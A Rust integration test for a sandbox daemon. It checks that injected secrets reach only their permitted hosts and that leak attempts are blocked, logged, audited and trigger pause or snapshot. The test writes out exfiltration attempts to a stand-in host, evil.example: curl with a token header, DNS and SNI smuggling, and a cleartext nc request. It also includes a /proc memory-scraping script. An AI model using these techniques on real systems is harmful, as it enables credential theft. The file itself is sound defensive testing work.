//! Secrets at egress (docs/secrets.md), in the network tests' topology of test-made namespaces: a
//! TLS server of the test's own "internet" logs every request it receives and answers with the
//! request's headers (an echo, as a server that reflects a token would). The sandbox holds only
//! placeholders; the value must arrive at the right host, never at another, never be visible inside
//! (environment, files, a scan of its processes' memory, the answer that echoed it), never appear
//! in an API answer or the daemon's log; a placeholder headed elsewhere is refused, logged with rule
//! `secret`, audited, and (when the policy asks) the sandbox is paused or snapshotted.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use moat_api::{CreateSandboxRequest, NetworkPolicy, SecretInject, SecretSpec, SecretViolation};
use moat_client::Client;

use crate::harness::*;
use crate::topology::*;

const TOKEN: &str = "ghp_REALtoken0123456789abcdefXYZ";
const ROTATED: &str = "ghp_ROTATEDtoken987654321zyxwvu";
const API_KEY: &str = "sk-live-HEADERvalue-5566778899";
const OTHER: &str = "other-REALvalue-for-also-example";

fn openssl(args: &[&str]) {
    let out = Command::new("openssl")
        .args(args)
        .output()
        .expect("openssl");
    assert!(
        out.status.success(),
        "openssl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A CA of the test's own and, signed by it, a certificate for each name (the servers').
fn test_ca(dir: &Path) -> PathBuf {
    let d = dir.join("secret-certs");
    std::fs::create_dir_all(&d).unwrap();
    let p = |n: &str| d.join(n).display().to_string();
    openssl(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "2",
        "-subj",
        "/CN=test root",
        "-keyout",
        &p("ca.key"),
        "-out",
        &p("ca.crt"),
    ]);
    for (name, sans) in [
        ("good", "DNS:good.example,DNS:also.example"),
        ("evil", "DNS:evil.example"),
    ] {
        openssl(&[
            "req",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-subj",
            &format!("/CN={name}"),
            "-keyout",
            &p(&format!("{name}.key")),
            "-out",
            &p(&format!("{name}.csr")),
        ]);
        std::fs::write(
            d.join(format!("{name}.ext")),
            format!("subjectAltName={sans}\n"),
        )
        .unwrap();
        openssl(&[
            "x509",
            "-req",
            "-in",
            &p(&format!("{name}.csr")),
            "-CA",
            &p("ca.crt"),
            "-CAkey",
            &p("ca.key"),
            "-CAcreateserial",
            "-days",
            "2",
            "-extfile",
            &p(&format!("{name}.ext")),
            "-out",
            &p(&format!("{name}.crt")),
        ]);
    }
    d
}

/// An HTTPS echo server on `addr:8443` (in the test's "internet"): every request is appended to
/// `log` (request line, headers, body) and answered with its headers.
fn echo_server(
    topo: &Topology,
    certs: &Path,
    name: &str,
    addr: &str,
    log: &Path,
) -> std::process::Child {
    let script = format!(
        "import http.server, ssl, sys\n\
         class H(http.server.BaseHTTPRequestHandler):\n\
         \x20   protocol_version = 'HTTP/1.1'\n\
         \x20   def handle_any(self):\n\
         \x20       n = int(self.headers.get('content-length') or 0)\n\
         \x20       body = self.rfile.read(n) if n else b''\n\
         \x20       rec = (self.requestline + '\\n' + str(self.headers)).encode() + body + b'\\n----\\n'\n\
         \x20       open('{log}', 'ab').write(rec)\n\
         \x20       out = str(self.headers).encode() + body\n\
         \x20       self.send_response(200); self.send_header('content-length', str(len(out))); self.end_headers(); self.wfile.write(out)\n\
         \x20   do_GET = do_POST = do_PUT = handle_any\n\
         \x20   def log_message(self, *a): pass\n\
         s = http.server.ThreadingHTTPServer(('{addr}', 8443), H)\n\
         c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain('{certs}/{name}.crt', '{certs}/{name}.key')\n\
         s.socket = c.wrap_socket(s.socket, server_side=True)\n\
         s.serve_forever()\n",
        log = log.display(),
        certs = certs.display(),
    );
    Command::new("ip")
        .args(["netns", "exec", &topo.internet, "python3", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start the echo server")
}

/// The busybox root filesystem plus the host's curl and the libraries it loads (a real TLS client
/// that reads the system trust bundle, speaking HTTP/2 and HTTP/1.1).
fn with_curl(root: &Path) {
    let out = Command::new("ldd").arg("/usr/bin/curl").output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut files = vec![PathBuf::from("/usr/bin/curl")];
    for l in text.lines() {
        if let Some(p) = l
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from)
        {
            files.push(p);
        }
    }
    for f in files {
        let dst = root.join(f.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(std::fs::canonicalize(&f).unwrap(), &dst).unwrap();
    }
}

/// `curl` from inside the sandbox: (stdout, exit code).
async fn curl(c: &Client, id: &str, args: &str) -> (String, i32) {
    let out = sh(
        c,
        id,
        &format!(
            "curl -sS -m 10 --resolve good.example:8443:{INTERNET} --resolve also.example:8443:{INTERNET} \
             --resolve evil.example:8443:{EVIL} {args} 2>&1"
        ),
    )
    .await;
    (out.stdout, out.exit.exit_code.unwrap_or(-1))
}

fn spec(name: &str, value: &str, host: &str) -> SecretSpec {
    SecretSpec {
        name: name.into(),
        value: value.into(),
        hosts: vec![host.into()],
        inject: SecretInject::Placeholder,
        header: None,
        format: None,
        body: false,
    }
}

/// The sandbox's memory, scanned from inside for `needle`: every readable mapping of every process
/// it may read (its own shell's included, which holds what curl answered). "scanned N found M".
const SCAN: &str = r#"n=0; f=0
for m in /proc/[0-9]*/maps; do
  p=${m%/maps}
  while read -r range perms rest; do
    case $perms in r*) ;; *) continue ;; esac
    s=$((0x${range%-*})); e=$((0x${range#*-}))
    if dd if=$p/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>/dev/null | grep -q -F "$NEEDLE"; then f=$((f+1)); fi
    n=$((n+1))
  done < $m 2>/dev/null
done
echo "scanned $n found $f""#;

#[tokio::test(flavor = "multi_thread")]
async fn secrets_reach_only_their_hosts_and_never_the_sandbox() {
    let tmp = tempfile::tempdir().unwrap();
    let certs = test_ca(tmp.path());
    let ca = certs.join("ca.crt");
    let (topo, d, c, _deny) = networked_daemon(
        tmp.path(),
        "10.203.0.0/16",
        &["--egress-ca-file", ca.to_str().unwrap()],
    )
    .await;
    let good_log = tmp.path().join("good.log");
    let evil_log = tmp.path().join("evil.log");
    let mut servers = vec![
        echo_server(&topo, &certs, "good", INTERNET, &good_log),
        echo_server(&topo, &certs, "evil", EVIL, &evil_log),
    ];
    // The bb template with curl in it.
    let root = tmp.path().join("bbroot");
    with_curl(&root);
    c.register_template(&moat_api::RegisterTemplateRequest {
        name: "bbc".into(),
        path: root.display().to_string(),
    })
    .await
    .unwrap();
    let policy = NetworkPolicy {
        allow_internet: false,
        allow_out: vec![
            "good.example".into(),
            "also.example".into(),
            "evil.example".into(),
            format!("{INTERNET}/32"),
        ],
        on_secret_violation: SecretViolation::BlockAndPause,
        ..Default::default()
    };
    let s = c
        .create_sandbox(&CreateSandboxRequest {
            template: Some("bbc".into()),
            timeout: Some(600),
            network: Some(policy.clone()),
            secrets: vec![
                spec("GITHUB_TOKEN", TOKEN, "good.example"),
                SecretSpec {
                    inject: SecretInject::Header,
                    header: Some("X-Api-Key".into()),
                    format: Some("{value}".into()),
                    ..spec("API_KEY", API_KEY, "good.example")
                },
                spec("OTHER", OTHER, "also.example"),
            ],
            ..Default::default()
        })
        .await
        .unwrap();
    let id = s.id.clone();

    // Inside: placeholders only, in the environment, in every process's, in the files.
    let listed = c.secrets(&id).await.unwrap();
    let ph = |n: &str| {
        listed
            .iter()
            .find(|x| x.name == n)
            .and_then(|x| x.placeholder.clone())
            .unwrap()
    };
    let token_ph = ph("GITHUB_TOKEN");
    assert!(token_ph.starts_with("moat-secret-"), "{listed:?}");
    let env = sh(&c, &id, "echo $GITHUB_TOKEN; echo $OTHER").await;
    assert_eq!(env.stdout, format!("{token_ph}\n{}\n", ph("OTHER")));
    for v in [TOKEN, API_KEY, OTHER] {
        let found = sh(
            &c,
            &id,
            &format!("cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -c -F '{v}'; grep -r -l -F '{v}' /etc /root /tmp /bin 2>/dev/null; true"),
        )
        .await;
        assert_eq!(found.stdout.trim(), "0", "{v} inside: {found:?}");
    }

    // The right host gets the value: in a header the code wrote (over HTTP/2 to the proxy, HTTP/1.1
    // to the server), as a Basic password, and the injected header the code never wrote. What the
    // server echoed comes back with placeholders again.
    let (echo, code) = curl(
        &c,
        &id,
        "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/repos?t=$GITHUB_TOKEN",
    )
    .await;
    assert_eq!(code, 0, "{echo}");
    let log = std::fs::read_to_string(&good_log).unwrap();
    // (Header names arrive in lower case: HTTP/2 from curl to the proxy.)
    let has = |log: &str, line: &str| {
        log.to_ascii_lowercase()
            .contains(&line.to_ascii_lowercase())
    };
    assert!(
        has(&log, &format!("Authorization: Bearer {TOKEN}")),
        "{log}"
    );
    assert!(log.contains(&format!("/repos?t={TOKEN}")), "{log}");
    assert!(has(&log, &format!("x-api-key: {API_KEY}")), "{log}");
    assert!(!echo.contains(TOKEN) && !echo.contains(API_KEY), "{echo}");
    assert!(has(&echo, &format!("Bearer {token_ph}")), "{echo}");
    let (_, code) = curl(
        &c,
        &id,
        "--http1.1 -u \"git:$GITHUB_TOKEN\" https://good.example:8443/basic",
    )
    .await;
    assert_eq!(code, 0);
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("git:{TOKEN}"));
    let log = std::fs::read_to_string(&good_log).unwrap();
    assert!(log.contains(&format!("Basic {basic}")), "{log}");
    assert!(
        has(&log, "GET /basic HTTP/1.1\nhost: good.example:8443"),
        "HTTP/1.1 all the way: {log}"
    );
    // The shell that holds the echo, and every other process: no value in memory.
    let scan = sh(
        &c,
        &id,
        &format!(
            "R=$(curl -sS -m 10 --resolve good.example:8443:{INTERNET} -H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/x); \
             for NEEDLE in '{TOKEN}' '{API_KEY}'; do {SCAN}; done; echo \"$R\" | grep -c -F \"$GITHUB_TOKEN\""
        ),
    )
    .await;
    let lines: Vec<&str> = scan.stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{scan:?}");
    for l in &lines[..2] {
        let n: u64 = l.split_whitespace().nth(1).unwrap().parse().unwrap();
        assert!(n > 0 && l.ends_with("found 0"), "{scan:?}");
    }
    assert_eq!(lines[2], "1", "the echo holds the placeholder: {scan:?}");

    // Another host never gets it: TLS to evil.example is not intercepted, so the placeholder (a
    // worthless string) is all it can see.
    let (_, code) = curl(
        &c,
        &id,
        "-k -H \"Authorization: Bearer $GITHUB_TOKEN\" https://evil.example:8443/",
    )
    .await;
    assert_eq!(code, 0);
    let evil = std::fs::read_to_string(&evil_log).unwrap();
    assert!(evil.contains(&token_ph) && !evil.contains(TOKEN), "{evil}");

    // Rotation: the next connection carries the new value.
    c.put_secret(&id, &spec("GITHUB_TOKEN", ROTATED, "good.example"))
        .await
        .unwrap();
    let (_, code) = curl(
        &c,
        &id,
        "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/rotated",
    )
    .await;
    assert_eq!(code, 0);
    let log = std::fs::read_to_string(&good_log).unwrap();
    assert!(
        has(&log, &format!("Authorization: Bearer {ROTATED}")),
        "{log}"
    );

    // Violations, each refused and logged with rule `secret`: OTHER's placeholder to good.example
    // (a host it does not belong to) inside an intercepted connection, a placeholder in clear, in
    // a DNS question, in a TLS server name.
    // block_and_pause: the sandbox is paused by the first violation (the command is frozen with it
    // until the resume below, so it runs beside the wait).
    let leak = {
        let (c, id) = (c.clone(), id.clone());
        tokio::spawn(async move {
            curl(
                &c,
                &id,
                "-H \"X-Leak: $OTHER\" https://good.example:8443/leak",
            )
            .await
        })
    };
    let mut paused = false;
    for _ in 0..100 {
        if c.get_sandbox(&id).await.unwrap().state == moat_api::SandboxState::Paused {
            paused = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(paused, "the violation did not pause the sandbox");
    c.resume_sandbox(&id, &Default::default()).await.unwrap();
    let (out, _) = leak.await.unwrap();
    assert!(out.contains("may not go to good.example"), "{out}");
    assert!(!std::fs::read_to_string(&good_log)
        .unwrap()
        .contains("/leak"));
    let mut p = policy.clone();
    p.on_secret_violation = SecretViolation::BlockAndSnapshot;
    c.set_network(&id, &p).await.unwrap();
    let clear = sh(
        &c,
        &id,
        &format!("printf 'GET /?k=%s HTTP/1.0\\r\\n\\r\\n' \"$GITHUB_TOKEN\" | busybox nc -w 3 {INTERNET} 8080; echo rc=$?"),
    )
    .await;
    assert!(!clear.stdout.contains("200 OK"), "{clear:?}");
    sh(&c, &id, "busybox nslookup $GITHUB_TOKEN.evil.example; true").await;
    let (_, code) = curl(&c, &id, "-k https://$GITHUB_TOKEN.evil.example:8443/ --resolve $GITHUB_TOKEN.evil.example:8443:198.51.100.3").await;
    assert_ne!(code, 0);
    let q = moat_api::NetworkLogQuery {
        limit: Some(1000),
        ..Default::default()
    };
    let mut places = Vec::new();
    for _ in 0..100 {
        let log = c.network_log(&id, &q).await.unwrap();
        places = log
            .iter()
            .filter(|e| e.rule == "secret")
            .map(|e| (e.protocol.clone(), e.error.clone().unwrap_or_default()))
            .collect();
        if places.len() >= 4 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let text = format!("{places:?}");
    assert!(text.contains("OTHER headed to good.example"), "{text}");
    assert!(text.contains("in clear"), "{text}");
    assert!(text.contains("DNS question"), "{text}");
    assert!(text.contains("(in the sni)"), "{text}");
    // Audited; the snapshot the policy asked for is named in the entry.
    let mut snap = None;
    for _ in 0..100 {
        let a = c.sandbox_audit(&id, &Default::default()).await.unwrap();
        snap = a
            .iter()
            .filter(|e| e.action == "secret.violation")
            .find_map(|e| {
                e.detail
                    .get("snapshot")
                    .and_then(|s| s.as_str())
                    .map(str::to_string)
            });
        if snap.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let Some(snap) = snap else {
        panic!(
            "no secret.violation entry naming a snapshot: {:#?}",
            c.sandbox_audit(&id, &Default::default()).await.unwrap()
        );
    };
    assert!(c
        .get_snapshot(&snap)
        .await
        .unwrap()
        .name
        .unwrap()
        .starts_with("secret-violation-"));

    // Never in an API answer, never in the daemon's log.
    let answers = format!(
        "{:?}{:?}{:?}",
        c.get_sandbox(&id).await.unwrap(),
        c.secrets(&id).await.unwrap(),
        c.network_log(&id, &q).await.unwrap()
    );
    let daemon_log = std::fs::read_to_string(d.data_dir.join("daemon.log")).unwrap_or_default();
    for v in [TOKEN, ROTATED, API_KEY, OTHER] {
        assert!(!answers.contains(v), "{v} in an answer");
        assert!(!daemon_log.contains(v), "{v} in the daemon's log");
    }
    c.delete_sandbox(&id).await.unwrap();
    for s in &mut servers {
        let _ = s.kill();
        let _ = s.wait();
    }
}
